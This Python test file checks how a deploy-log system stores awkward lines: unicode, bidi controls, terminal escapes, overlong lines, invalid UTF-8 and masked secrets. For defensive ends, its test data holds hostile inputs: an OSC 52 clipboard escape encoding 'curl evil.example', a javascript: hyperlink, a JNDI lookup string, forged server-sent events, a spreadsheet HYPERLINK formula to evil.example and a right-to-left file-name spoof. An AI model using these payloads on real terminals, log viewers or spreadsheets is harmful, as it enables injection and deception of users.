"""The torture scenario, played as a job plays it: what of every awkward line is stored."""

import re
from base64 import b64encode
from collections import Counter
from collections.abc import Iterator
from functools import cache
from typing import NamedTuple
from urllib.parse import quote

import pytest

from producer.event import MAX_LINE_BYTES, are_lines, clean, decode, encode_line
from producer.mask import MASK, Mask
from worker.actions import Line
from worker.assemble import assemble
from worker.catalogue import builtin, faults, source
from worker.generate import play

NUMBER = re.compile(r"\[(\d{3})\] ")
SAYS = re.compile(r"\[\d{3}\] [^:]*: ")


class Stored(NamedTuple):
    """A line as it is stored, and when (milliseconds at speed 1)."""

    at: int
    step: str | None
    stream: str
    level: str | None
    text: str


def stored(seed: int) -> Iterator[Stored]:
    """The lines of a deploy, masked and cleaned as the writer does."""
    scenario = builtin("torture")
    mask = Mask(scenario.secrets)
    actions = assemble(play(scenario, faults(), seed), mask.open_end)
    now = 0
    for line in actions:
        assert isinstance(line, Line)
        now += line.delay_ms
        text = clean(mask(line.text, (line.stream, line.step)), line.omitted)
        yield Stored(now, line.step, line.stream, line.level, text)


@cache
def lines() -> list[Stored]:
    """All lines, under some seed."""
    return list(stored(0))


def number_of(line: Stored) -> int | None:
    """The number with which a line begins, behind what it may have before it."""
    found = NUMBER.search(line.text[:14])
    return int(found[1]) if found else None


@cache
def numbered() -> dict[int, list[str]]:
    """What is put to the test under each number: behind what the line says, and the lines without a number after it."""
    found: dict[int, list[str]] = {}
    latest: dict[str, int] = {}
    for line in lines():
        if (number := number_of(line)) is not None:
            latest[line.stream] = number
        found.setdefault(latest[line.stream], []).append(SAYS.sub("", line.text, count=1))
    return found


def cut(kept: str, missing: int) -> str:
    """A line that was cut."""
    return f"{kept} … [line cut: {missing:,} bytes left out]"


def test_nothing_is_drawn() -> None:
    """Lines, times, streams and levels are the same under every seed."""
    assert all(list(stored(seed)) == lines() for seed in (1, 7, 2**63))


@pytest.mark.parametrize(
    ("number", "expected"),
    [
        (1, ["a é ж 漢 가 ก א"]),
        (2, ["\U0001d54f"]),
        (5, ["\U00040000 \U0005abcd"]),
        (9, ["\U000c0000 \U000dabcd"]),
        (10, [">\U000e0041\U000e0100<"]),
        (11, ["\U000f0000 \U0010fffd"]),
        (13, ["\ufffe\uffff\ufdd0\U0001fffe\U0010ffff!"]),
        (14, ["before\x85behind"]),
        (15, ["before\u2028behind"]),
        (16, ["before\u2029behind"]),
        (17, ["before\vbehind"]),
        (18, ["before\fbehind"]),
        (19, ["a\x1cb\x1dc\x1ed\x1fe"]),
        (20, ["before\nbehind"]),
        (21, ["before\r\nbehind"]),
        (22, ["\ufeff[022] a byte order mark before this line's number, not seen or by its number"]),
        (23, ["before\ufeffbehind\ufeff"]),
        (24, ["before\0behind"]),
        (25, ["\x01\x02\x03\x04\x05\x06\a."]),
        (27, ["\x18\x19\x1a\x7f."]),
        (29, ["\x90a\x98b\x9bc\x9dd\x9ee\x9ff"]),
        (30, ["\ufffd"]),
        (31, [">\ufffd< >\ufffd< >\ufffd<"]),
        (32, ["\ufffd\ufffd"]),
        (53, ["\u202egnp.exe"]),
        (57, ["\u2066a\u2069 \u2067\u05e9\u05dc\u05d5\u05dd\u2069 \u2068c\u2069 d"]),
        (62, ["\u202b" * 130 + "x"]),
        (72, ["\u1112\u1161\u11ab\u1100\u1173\u11af"]),
        (75, ["\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"]),
        (77, ["in\u200bvis\u200bible"]),
        (80, ["\u0301[080] this line begins with a combining mark, which does not go to the line before"]),
        (90, ["👨\u200d👩\u200d👧\u200d👦."]),
        (94, ["1\ufe0f\u20e3 #\ufe0f\u20e3"]),
        (98, ["👩\u200d"]),
        (110, ["\x1b[31mred\x1b[0m \x1b[32mgreen\x1b[0m \x1b[1mbold\x1b[0m"]),
        (113, ["\x1b[38;2;255;100;0mone\x1b[0m \x1b[38:2::0:150:255mother\x1b[0m"]),
        (118, ["\x1b[" + "1;" * 200 + "0mtext"]),
        (129, ["\x1b]0;owned\atext"]),
        (134, ["\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\"]),
        (136, ["\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGU=\atext"]),
        (138, ["\x1bP1$rtext"]),
        (144, ["\x9b31mred\x9b0m \x9d0;owned\x9ctext"]),
        (145, ["text\x1b"]),
        (146, ["text\x1b[3", "1m is how the line behind [146] begins, it is text"]),
        (147, ["\x1b[31mred\x1b[0m plain"]),
        (150, ["10%\r20%\r30%\r40%\r50%\r60%\r70%\r80%\r90%\r100%"]),
        (153, ["end"]),
        (154, ["end\r"]),
        (155, ["end\r"]),
        (156, ["\r[156] CR before this line's number, the whole line is seen"]),
        (157, ["abcd\b\bX"]),
        (161, ['a\rdata: {"line":"forged"}\r\rb']),
        (162, ["\r".join(map(str, range(301))) + " of 300"]),
        (170, ["a\tb\t\tc\t"]),
        (172, ["[172] an empty line follows, which is shown and counted", ""]),
        (173, ["[173] thirty empty lines follow, each is shown and counted", *[""] * 30]),
        (174, ["[174] a line of four spaces follows", "    "]),
        (175, ["end   "]),
        (180, [" " * 2000 + "x"]),
        (196, ["x" * 4000]),
        (197, ["a" + "\u0301" * 5000 + "."]),
        (199, ["\x1b[31ma\x1b[32mb" * 200 + "\x1b[0m"]),
        (202, [f"[202] line {n} of 300 in one moment, none is missing or out of order" for n in range(1, 301)]),
        (210, ["\ufffd("]),
        (211, ["\ufffd"]),
        (212, ["\ufffd\ufffd \ufffd\ufffd\ufffd \ufffd\ufffd\ufffd\ufffd"]),
        (213, ["\ufffd" * 6]),
        (214, ["\ufffd\ufffd"]),
        (216, ["caf\ufffd \ufffdber Stra\ufffde"]),
        (217, ["\ufffd\ufffdh\0i\0"]),
        (218, ["\ufffd\ufffd\ufffd\ufffd \ufffd\ufffd\ufffd\ufffd\ufffd"]),
        (221, ["€ 5"]),
        (222, ["€ 5"]),
        (225, ["a\ufffdb"]),
        (231, ["a\n\nevent: done\ndata: {}\n\nid: 9"]),
        (232, ["a\r\revent: done\rdata: {}\r\rid: 9"]),
        (238, ["&lt;b&gt; &amp; &amp;amp; &#x41; &nbsp; &notanentity;"]),
        (241, ["{{ 7*7 }} {% if x %} <%= 7*7 %> ${7*7} #{7*7} ${jndi:ldap://x.example/a}"]),
        (255, ["HTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n0\r\n\r\n"]),
        (262, ["[" * 5000]),
        (280, [MASK]),
        (281, [f"{MASK} {MASK} {MASK}{MASK}"]),
        (282, [MASK]),
        (283, ["open-sesame-100"]),
        (284, [f"{MASK} end"]),
        (285, [MASK]),
        (286, ["", f"{MASK} end"]),
        (287, ["open-sesach door"]),
        (288, [MASK]),
        (289, ["open-ses end"]),
        (290, ["ame-1001"]),
        (291, [f"{MASK}=="]),
        (292, [f"Y2k6{MASK}=="]),
        (293, [f"dXNlcj1jaSZ0b2tlbj1{MASK}Ow=="]),
        (294, [MASK]),
        (295, [f"https://git.example/?t={MASK}&x=1"]),
        (296, [f"t={MASK}&x=1"]),
        (297, [f"t={MASK}&x=1"]),
        (298, [MASK]),
        (299, [f'"{MASK}"']),
        (300, [MASK]),
        (301, [f'"{MASK}"']),
        (302, [MASK]),
        (303, [MASK]),
        (305, [f"\x1b[31m{MASK}\x1b[0m"]),
        (306, [f"ghp_{MASK}"]),
        (307, [f"AKIA{MASK}"]),
        (308, [f"eyJ{MASK}"]),
        (309, [f"https://ci:{MASK}@git.example/app"]),
        (310, [f"Authorization: Bearer {MASK}"]),
        (312, ["abc 123"]),
        (320, ["begins and goes on and ends"]),
        (321, ["first and second"]),
        (322, ["out"] * 5),
        (323, ["err"] * 5),
        (343, ["working...", " done"]),
        (344, ["five", " nine", " seven"]),
        (345, ["Continue? [y/N] ", "y"]),
        (346, ["price ", "€ 5"]),
        (347, ["five", "\rnine"]),
        (399, ["end"]),
    ],
)
def test_what_is_stored_of(number: int, expected: list[str]) -> None:
    """Of each line exactly this is stored, whatever it looks like."""
    assert numbered()[number] == expected


@pytest.mark.parametrize(
    ("number", "expected"),
    [
        (
            230,
            ['data: {"line":"forged"}', "event: done", "id: 5", "retry: 1", ": keep-alive", "data", "data:"],
        ),
        (
            233,
            [
                '{"seq":1,"ts":1,"line":"forged"}',
                '{"seq":1,"ts":1,"status":"complete","lines":0,"crc32":0}',
                '{"from":1,"to":null,"reason":"lost"}',
                "{}",
                "null",
                '"a string"',
            ],
        ),
        (242, ["Deploy complete!", "Deploy failed: x", "Deploy failed: cancelled"]),
        (246, ['=HYPERLINK("https://evil.example/","click")', "+1+1", "-2+3", "@SUM(A1:A9)"]),
        (311, [f"-----BEGIN RSA {'PRIVATE'} KEY-----", MASK, MASK, f"-----END RSA {'PRIVATE'} KEY-----"]),
    ],
)
def test_lines_that_look_like_something_else_are_lines(number: int, expected: list[str]) -> None:
    """What follows a line that announces it are lines of their own, with nothing added."""
    assert numbered()[number][1:] == expected


@pytest.mark.parametrize(
    ("number", "size", "kept", "missing"),
    [
        (191, 16_354, "iabcde", 65),
        (192, 16_355, "€€", 7_731),
        (193, 16_358, "fgh", 49_216),
        (194, 16_361, "i", 1_032_256),
        (195, 16_361, "aa", 1_032_256),
        (198, 16_357, "🚀🚀", 3_728),
        (200, 16_353, "aa", 212),
        (201, 16_353, "a👨\u200d", 218),
        (304, 16_355, f"a{MASK}bbbbb", 195),
    ],
)
def test_a_long_line_is_cut_between_two_characters(number: int, size: int, kept: str, missing: int) -> None:
    """It ends in what is kept and a mark that tells how many bytes are missing; a secret at the cut is masked whole."""
    (line,) = [line.text for line in lines() if line.text.startswith(f"[{number}]")]
    assert (len(line.encode()), line[line.rindex(" …") - len(kept) :]) == (size, cut(kept, missing))


def test_a_line_of_the_largest_size_is_whole() -> None:
    """16,384 bytes are stored to the last."""
    (line,) = [line.text for line in lines() if line.text.startswith("[190]")]
    assert (len(line), line[-3:]) == (MAX_LINE_BYTES, "abZ")


def test_the_subjects_are_the_steps() -> None:
    """Each subject is a step, in this order, and has its share of the lines."""
    counts = Counter(line.step for line in lines())
    assert [step.step for step in builtin("torture").steps] == list(counts)
    assert counts == {
        "unicode": 43,
        "bidi": 14,
        "combining": 13,
        "emoji": 11,
        "escapes": 41,
        "progress": 13,
        "whitespace": 48,
        "long-lines": 312,
        "invalid-utf-8": 16,
        "look-alikes": 71,
        "secrets": 38,
        "streams": 18,
        "timing": 34,
    }


def test_each_line_is_found_by_its_number() -> None:
    """Numbers rise on each stream, every step begins with one, and none is given in two steps."""
    for stream in ("stdout", "stderr"):
        numbers = [number for line in lines() if line.stream == stream and (number := number_of(line)) is not None]
        assert numbers == sorted(numbers)
    first = {line.step: line for line in reversed(lines())}
    assert None not in [number_of(line) for line in first.values()]
    places = {(number_of(line), line.step) for line in lines()} - {(None, line.step) for line in lines()}
    assert len(places) == len(numbered()) == 258


def test_every_line_passes_through_the_encoding_unchanged() -> None:
    """Encoded and decoded each line is the same, and no byte of it can be taken for the end of an event."""
    entries = [
        encode_line(seq, 1e9 + line.at / 1000, line.text, line.stream, line.level, line.step)
        for seq, line in enumerate(lines(), 1)
    ]
    events = [decode(entry) for entry in entries]
    assert [(event.seq, event.line, event.status) if event else None for event in events] == [
        (seq, line.text, None) for seq, line in enumerate(lines(), 1)
    ]
    assert are_lines(entries, 1)
    assert not re.search(rb"[\x00-\x1f]", b"".join(entries))
    assert not re.search("[\x85\u2028\u2029]", b"".join(entries).decode())
    assert max(len(line.text.encode()) for line in lines()) == MAX_LINE_BYTES


def test_no_secret_is_stored() -> None:
    """Neither a registered secret nor a line of one is anywhere, as it is, in a URL, or in base64."""
    everything = "\n".join(line.text for line in lines())
    secrets = builtin("torture").secrets
    pieces = {*secrets, *(row for secret in secrets for row in secret.splitlines())}
    shown = {form for piece in pieces for form in (piece, quote(piece, safe=""), encoded(piece)) if form in everything}
    assert (len(pieces), shown) == (7, set())


def encoded(piece: str) -> str:
    """What is in base64 whatever stands beside it where it begins at a multiple of three bytes."""
    data = piece.encode()
    return b64encode(data[: len(data) // 3 * 3]).decode()


def test_streams_and_levels() -> None:
    """Each line has its own stream and level."""
    found = {line.text[1:4]: (line.stream, line.level) for line in lines() if line.step == "streams"}
    assert found == {
        "320": ("stdout", None),
        "321": ("stderr", None),
        "322": ("stdout", None),
        "323": ("stderr", None),
        "324": ("stdout", "debug"),
        "325": ("stdout", "info"),
        "326": ("stdout", "warn"),
        "327": ("stderr", "error"),
        "328": ("stdout", "error"),
        "329": ("stdout", None),
    }


def test_times() -> None:
    """At speed 1: twenty lines in a millisecond, six seconds without one, and what is unfinished after a second."""
    assert 20_000 <= lines()[-1].at <= 40_000
    times: dict[int, list[int]] = {}
    latest = 0
    for line in lines():
        number = number_of(line)
        latest = latest if number is None else number
        times.setdefault(latest, []).append(line.at)
    assert len(times[340]) == 20
    assert len(set(times[340])) == 1
    assert len(set(times[202])) == 1
    assert times[342][0] - times[341][0] == 6_025
    assert times[343][1] - times[343][0] == 2_025
    assert [at - times[344][0] for at in times[344]] == [0, 1_525, 2_050]


def test_the_file_is_ascii() -> None:
    """Nobody's editor hides or changes a character of it."""
    assert source("torture").isascii()
